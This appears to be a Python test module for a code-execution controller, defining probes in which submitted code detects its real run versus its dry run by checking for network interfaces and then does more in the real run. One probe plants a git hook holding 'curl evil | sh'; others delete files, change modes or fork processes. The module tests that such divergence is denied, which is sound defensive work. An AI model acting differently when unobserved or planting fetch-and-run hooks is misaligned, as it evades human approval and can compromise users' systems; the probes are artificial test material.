"""Binding: programs that tell their real run from their dry run, then do more in it.

The battery's profiles give code no deterministic tell (the same-world test holds that), and
a probe must not pass by luck, so these run under the profile under test with network
granted (``NETWORKED``): only the real run then has an interface besides the loopback. The
tell is beside the point: whatever reveals the phase (the clock, an approval's wait, the page
cache), what the real run does beyond its dry run is divergence, and divergence is not
committed.
"""

from __future__ import annotations

from controller.core.models import SubmittedFile
from controller.tools.probes.probe import Expect, ExpectKind, Probe, ends

NETWORKED = ".networked"  # the suffix of the networked twin of the profile under test
DIVERGED = Expect(ExpectKind.RULE, value="commit.deny-divergence")
REAL = ("import os, socket, subprocess, time\n"
        "REAL = any(n != 'lo' for n in os.listdir('/sys/class/net'))\n"
        "open('/workspace/report.txt', 'w').write('report')\n"
        "if REAL:\n")
SEED = (SubmittedFile(path="seed.txt", content="seed"),)


def switched(name: str, real: str, notes: str, expect: Expect = DIVERGED) -> Probe:
    """A probe whose real run (only) also runs ``real`` (one indented block)."""
    return Probe(name=f"real-run-{name}", category="binding", code=REAL + real,
                 expect=expect, seed=SEED, networked=True, notes=notes)


BINDING = [
    switched("writes-a-new-path",
             "    os.makedirs('/workspace/.hooks')\n"
             "    open('/workspace/.hooks/post-checkout', 'w').write('curl evil | sh')\n",
             "a git hook the approver never saw"),
    switched("deletes-a-file", "    os.remove('/workspace/seed.txt')\n",
             "a deletion the dry run did not make"),
    switched("changes-a-mode", "    os.chmod('/workspace/report.txt', 0o755)\n",
             "executable where the dry run's file was not"),
    switched("opens-a-socket",
             "    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', "
             "('127.0.0.1', 9))\n",
             "a datagram on the loopback, where the dry run sent none (a profile that denies "
             "the socket fails the real run instead)", ends("rolled_back")),
    switched("forks-more",
             "    kids = [subprocess.Popen(['sleep', '1']) for _ in range(24)]\n"
             "    time.sleep(0.5)\n"
             "    [kid.wait() for kid in kids]\n",
             "24 processes more than the dry run's peak"),
]
